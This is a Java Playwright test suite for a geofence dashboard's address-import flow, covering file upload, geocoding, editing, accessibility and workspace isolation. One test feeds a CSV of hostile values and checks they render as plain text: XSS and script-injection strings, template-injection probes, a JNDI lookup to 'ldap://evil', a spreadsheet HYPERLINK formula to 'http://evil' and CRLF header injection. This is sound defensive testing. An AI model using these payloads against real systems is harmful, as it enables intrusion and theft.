package io.spatialflow.server.dashboard;

import static com.microsoft.playwright.assertions.PlaywrightAssertions.assertThat;
import static org.assertj.core.api.Assertions.assertThat;

import com.microsoft.playwright.Locator;
import com.microsoft.playwright.Page;
import com.microsoft.playwright.Response;
import com.microsoft.playwright.assertions.LocatorAssertions;
import com.microsoft.playwright.options.ColorScheme;
import com.microsoft.playwright.options.FilePayload;
import io.spatialflow.server.account.WorkspaceId;
import io.spatialflow.server.cli.RunningServer;
import io.spatialflow.server.geofence.GeofenceQuery;
import java.io.ByteArrayOutputStream;
import java.nio.charset.Charset;
import java.nio.charset.StandardCharsets;
import java.util.regex.Pattern;
import org.dhatim.fastexcel.Workbook;
import org.dhatim.fastexcel.Worksheet;
import org.junit.jupiter.api.Test;

/** The import, from a list to fences and back, as somebody with a browser goes through it. */
class ImportJourneyTest extends BrowserTest {

    private Locator row(int ordinal) {
        return page.locator("tr[data-row='" + (ordinal - 1) + "']");
    }

    private void paste(String text) {
        go("/import");
        page.getByLabel("Or paste rows").fill(text);
        button("Look at the list").click();
        button("Find the addresses").click();
        assertThat(button("Create")).isVisible();
    }

    private static long fences(WorkspaceId workspace) {
        return server.geofences().list(workspace, GeofenceQuery.newest(1)).totalCount();
    }

    @Test
    void fromTheLoginToFencesOnTheMapInFourClicks() throws Exception {
        WorkspaceId workspace = signIn();
        assertThat(heading("No geofences yet")).isVisible();
        accessible();
        picture("first-visit");
        button("Try it with a sample list").click();
        assertThat(page.getByLabel("What Street holds")).hasValue("address");
        assertThat(page.getByLabel("What Customer holds")).hasValue("name");
        assertThat(page.getByLabel("What Radius (m) holds")).hasValue("radius");
        accessible();
        picture("import-columns");
        button("Find the addresses").click();
        assertThat(row(1)).containsText("Ready");
        assertThat(row(3)).containsText("Apple HQ (row 1)");
        assertThat(row(12)).containsText("Ambiguous");
        assertThat(row(15)).containsText("A post office box is where mail goes");
        accessible();
        picture("import-preview");
        button("Create").click();
        assertThat(page.getByText("geofences created")).isVisible();
        accessible();
        picture("import-result");
        assertThat(fences(workspace)).isGreaterThan(5);
        link("See all geofences").click();
        assertThat(page.locator("#map")).isVisible();
        accessible();
    }

    @Test
    void anAmbiguousRowIsChosenAFailedOneMendedAndAPinPut() throws Exception {
        WorkspaceId workspace = signIn();
        paste("123 Main St\n1 Mian Strret, Nowhere, ZZ\n" + RunningServer.mainStreet(10) + "\n");
        link("Choose row 1").or(page.locator("#edit-0")).click();
        assertThat(page.locator(".pin"))
                .hasCount(page.locator("input[name=candidate]").count());
        picture("import-choose");
        accessible();
        page.locator("input[name=candidate]").first().check();
        button("Use this place").click();
        assertThat(row(1)).containsText("(chosen)");

        page.locator("#edit-1").click();
        page.getByLabel("Address", new Page.GetByLabelOptions().setExact(true)).fill(RunningServer.mainStreet(20));
        button("Save and find again").click();
        assertThat(row(2)).containsText("Ready");

        page.locator("#edit-2").click();
        page.getByLabel("Latitude").fill("44.5");
        page.getByLabel("Longitude").fill("-72.5");
        button("Set point").click();
        assertThat(row(3)).containsText("Placed by hand");

        page.locator("#tick-all").check();
        page.getByLabel("Radius in metres").fill("250");
        button("Set radius").click();
        assertThat(row(1)).containsText("250 m");
        page.getByLabel("All 3 shown").check();
        page.locator("#add-tags").fill("customer:acme");
        button("Add tags").click();
        assertThat(row(3)).containsText("customer:acme");

        button("Create 3 geofences").click();
        assertThat(page.getByText("3 geofences created")).isVisible();
        assertThat(server.geofences().list(workspace, GeofenceQuery.newest(10)).geofences())
                .anySatisfy(fence -> {
                    assertThat(fence.profile().metadata()).containsEntry("placed_by_hand", true);
                    assertThat(fence.area().centroid().latitude()).isEqualTo(44.5);
                })
                .anySatisfy(fence -> assertThat(fence.profile().metadata()).containsEntry("chosen_by_hand", true))
                .allSatisfy(fence -> assertThat(fence.bufferMeters()).isEqualTo(250));
    }

    @Test
    void aPinIsDraggedToWhereItBelongs() {
        signIn();
        paste(RunningServer.mainStreet(10));
        page.locator("#edit-0").click();
        Locator pin = page.locator(".pin");
        assertThat(pin).isVisible();
        double x = pin.boundingBox().x + 14;
        double y = pin.boundingBox().y + 14;
        page.mouse().move(x, y);
        page.mouse().down();
        page.mouse().move(x + 40, y + 60);
        page.mouse().move(x + 80, y + 90);
        page.mouse().up();
        assertThat(row(1)).containsText("Placed by hand");
    }

    private String drawn() {
        return (String) page.evaluate("document.querySelector('canvas.signs').toDataURL()");
    }

    @Test
    void theMapFetchesOnlyWhatAnEditChangedAndDrawsAllOfIt() {
        signIn();
        paste(RunningServer.mainStreet(100) + "\n" + RunningServer.mainStreet(200) + "\n"
                + RunningServer.mainStreet(300));
        page.reload();
        page.waitForCondition(() -> page.locator("canvas.signs").count() == 1);
        assertThat(row(2)).containsText("Ready");
        page.waitForTimeout(500);
        String before = drawn();
        page.locator("tr[data-row='1'] input[name=row]").check();
        Response answer = page.waitForResponse(
                response -> response.url().contains("since="),
                () -> button("Leave out").click());
        assertThat(answer.text()).contains("\"changed\":[1]");
        page.waitForCondition(() -> !drawn().equals(before));
        String after = drawn();
        page.reload();
        page.waitForCondition(() -> page.locator("canvas.signs").count() == 1 && drawn().equals(after));
    }

    @Test
    void theStrategyChangesTheCounts() {
        signIn();
        paste(RunningServer.mainStreet(100) + "\n" + RunningServer.mainStreet(101) + "\n"
                + RunningServer.mainStreet(200));
        assertThat(button("Create 2 geofences")).isVisible();
        page.locator("#strategy-OVERRIDE").check();
        assertThat(button("Create 3 geofences")).isVisible();
        page.locator("#strategy-FAIL").check();
        assertThat(button("Create 0 geofences")).isDisabled();
        page.reload();
        assertThat(page.locator("#strategy-FAIL")).isChecked();
    }

    @Test
    void whatWasImportedIsUndone() {
        WorkspaceId workspace = signIn();
        paste(RunningServer.mainStreet(100) + "\n" + RunningServer.mainStreet(200));
        button("Create 2 geofences").click();
        assertThat(page.getByText("2 geofences created")).isVisible();
        page.getByText("Undo this import").click();
        button("Take away 2 geofences").click();
        assertThat(page.getByText("2 geofences taken back")).isVisible();
        assertThat(fences(workspace)).isZero();
    }

    @Test
    void theWholeWayByKeyboardAlone() {
        WorkspaceId workspace = signIn();
        go("/import");
        reach("text");
        page.keyboard().insertText(RunningServer.mainStreet(100) + "\n9 Nowhere Rd, Testville, VT\n");
        reachControl("Look at the list");
        page.keyboard().press("Enter");
        assertThat(button("Find the addresses")).isFocused();
        page.keyboard().press("Enter");
        assertThat(row(2)).containsText("Failed");
        reach("edit-1");
        page.keyboard().press("Enter");
        assertThat(page.locator("#address")).isFocused();
        page.keyboard().press("Control+A");
        page.keyboard().insertText(RunningServer.mainStreet(200));
        page.keyboard().press("Enter");
        assertThat(row(2)).containsText("Ready");
        assertThat(page.locator("#edit-1")).isFocused();
        reachControl("Create 2 geofences");
        page.keyboard().press("Enter");
        assertThat(page.getByText("2 geofences created")).isVisible();
        assertThat(fences(workspace)).isEqualTo(2);
    }

    @Test
    void hostileNamesAndAddressesStayText() {
        signIn();
        go("/import");
        String csv = "name,address\n\"<img src=x onerror=alert(1)>\",\"</script><script>alert(1)</script>\"\n"
                + "\"${7*7} [[${7*7}]] __${7*7}__\",\"${jndi:ldap://evil}\"\n"
                + "\"=HYPERLINK(\"\"http://evil\"\")\",\"%0d%0aSet-Cookie: a=b\"\n"
                + "\"\u001b[31mred\u202Eder\",\"javascript:alert(1)\"\n";
        page.locator("#file")
                .setInputFiles(new FilePayload("<b>hostile</b>.csv", "text/csv", csv.getBytes(StandardCharsets.UTF_8)));
        assertThat(page.locator("h1")).hasText("<b>hostile</b>.csv");
        button("Find the addresses").click();
        assertThat(row(1)).containsText("<img src=x onerror=alert(1)>");
        assertThat(row(2)).containsText("${7*7} [[${7*7}]] __${7*7}__");
        assertThat(row(3)).containsText("=HYPERLINK(");
        page.locator("#edit-0").click();
        assertThat(page.locator("#name")).hasValue("<img src=x onerror=alert(1)>");
        assertThat(page.locator("main img:not(.leaflet-tile)")).hasCount(0);
    }

    @Test
    void aListOfAnotherWorkspaceIsNotThere() {
        signIn();
        paste(RunningServer.mainStreet(100));
        String theirs = page.url();
        openDesktop(ColorScheme.LIGHT);
        signIn();
        assertThat(page.navigate(theirs).status()).isEqualTo(404);
        assertThat(page.navigate(theirs + "/errors.csv").status()).isEqualTo(404);
        assertThat(page.navigate(theirs.replace("/import/", "/dashboard/imports/") + ".json")
                        .status())
                .isEqualTo(404);
    }

    @Test
    void anEndedSessionLeadsToTheLogin() {
        signIn();
        paste(RunningServer.mainStreet(100));
        forgetCookies();
        page.locator("#edit-0").click();
        assertThat(page.getByLabel("Password")).isVisible();
    }

    @Test
    void fiveThousandRowsArePreviewedAndStaySmooth() {
        signIn();
        StringBuilder csv = new StringBuilder("Store,Street,City,ST,Zip\n");
        for (int i = 0; i < 5_000; i++) {
            csv.append("Store ")
                    .append(i)
                    .append(',')
                    .append(1 + i % RunningServer.HOUSES)
                    .append(" Main St,Testville,VT,05999\n");
        }
        go("/import");
        page.locator("#file")
                .setInputFiles(
                        new FilePayload("stores.csv", "text/csv", csv.toString().getBytes(StandardCharsets.UTF_8)));
        long start = System.nanoTime();
        button("Find the addresses").click();
        assertThat(button("Create")).isVisible(new LocatorAssertions.IsVisibleOptions().setTimeout(60_000));
        System.out.println("5,000 rows previewed in " + (System.nanoTime() - start) / 1_000_000 + " ms");
        assertThat(page.locator("nav.chips")).containsText(Pattern.compile("All\\s*5,000"));
        link("Next").click();
        assertThat(page.getByText("Page 2 of 100")).isVisible();
        assertThat(row(51)).isVisible();
        assertThat(weight()).as("bytes of the page and all it loads").isLessThan(1_500_000);
    }

    @Test
    void aListIsSavedAndUsedAgain() throws Exception {
        signIn();
        paste("name;address\nDepot;" + RunningServer.mainStreet(100) + "\nYard;" + RunningServer.mainStreet(200)
                + "\n");
        page.locator("details.menu > summary").click();
        page.getByLabel("Save it to use it again, as").fill("Depots, every month");
        accessible();
        button("Save list").click();
        assertThat(page.locator("h1")).containsText("Depots, every month");
        button("Create 2 geofences").click();
        assertThat(page.getByText("2 geofences created")).isVisible();
        go("/import");
        accessible();
        picture("import-start");
        button("Use Depots, every month again").click();
        assertThat(row(1)).containsText("Duplicate");
        page.locator("#strategy-OVERRIDE").check();
        assertThat(button("Create 2 geofences")).isVisible();
    }

    @Test
    void aListInAnotherAlphabetIsReadAndCanBeReadOtherwise() throws Exception {
        signIn();
        go("/import");
        String csv = "Имя;Адрес\nКафе Пушкин;" + RunningServer.mainStreet(100) + "\nМагазин Восток;"
                + RunningServer.mainStreet(200) + "\n";
        page.locator("#file")
                .setInputFiles(new FilePayload("кафе.csv", "text/csv", csv.getBytes(Charset.forName("windows-1251"))));
        assertThat(page.locator(".reading summary")).containsText("Cyrillic (Windows-1251)");
        assertThat(page.locator(".telling")).containsText("Кафе Пушкин");
        page.locator(".reading summary").click();
        fitsTheWindow();
        accessible();
        picture("import-reading");
        page.getByLabel("Encoding").selectOption("WINDOWS_1252");
        button("Read it so").click();
        assertThat(page.locator(".telling")).containsText("Êàôå Ïóøêèí");
        page.locator(".reading summary").click();
        page.getByLabel("Encoding").selectOption("WINDOWS_1251");
        page.getByLabel("The first row").selectOption("false");
        button("Read it so").click();
        assertThat(page.locator("p.lead")).containsText("3 rows");
    }

    @Test
    void whatAWorkbookHidesIsToldOfAndReadIfWanted() throws Exception {
        signIn();
        go("/import");
        ByteArrayOutputStream bytes = new ByteArrayOutputStream();
        Workbook workbook = new Workbook(bytes, "Test", "1.0");
        Worksheet sheet = workbook.newWorksheet("Stores");
        sheet.value(0, 0, "Stores of the north");
        sheet.value(1, 0, "Store");
        sheet.value(1, 1, "Address");
        sheet.value(2, 1, RunningServer.mainStreet(100));
        sheet.value(3, 1, RunningServer.mainStreet(200));
        sheet.hideRow(3);
        workbook.finish();
        page.locator("#file").setInputFiles(new FilePayload("stores.xlsx", "", bytes.toByteArray()));
        assertThat(page.locator("p.lead")).containsText("1 rows");
        assertThat(page.locator(".reading summary")).containsText("1 row above it left out · 1 hidden row left out");
        page.locator(".reading summary").click();
        accessible();
        page.getByLabel("Hidden rows").selectOption("true");
        button("Read it so").click();
        assertThat(page.locator("p.lead")).containsText("2 rows");
        assertThat(page.locator(".reading summary")).containsText("1 hidden row read too");
    }

    @Test
    void everyStepIsReadableOnAPhoneInTheDark() throws Exception {
        openPhone(ColorScheme.DARK);
        everyStep("-phone");
    }

    @Test
    void everyStepIsReadableInTheDark() throws Exception {
        openDesktop(ColorScheme.DARK);
        everyStep("-dark");
    }

    private void everyStep(String kind) throws Exception {
        signIn();
        go("/import");
        readable("import-start" + kind);
        button("Try it with a sample list").click();
        readable("import-columns" + kind);
        button("Find the addresses").click();
        assertThat(row(1)).containsText("Ready");
        readable("import-preview" + kind);
        page.locator("#edit-11").click();
        assertThat(page.locator("input[name=candidate]").first()).isVisible();
        readable("import-choose" + kind);
        button("Create").last().click();
        assertThat(page.getByText("geofences created")).isVisible();
        readable("import-result" + kind);
    }

    private void readable(String picture) throws Exception {
        fitsTheWindow();
        accessible();
        picture(picture);
    }
}
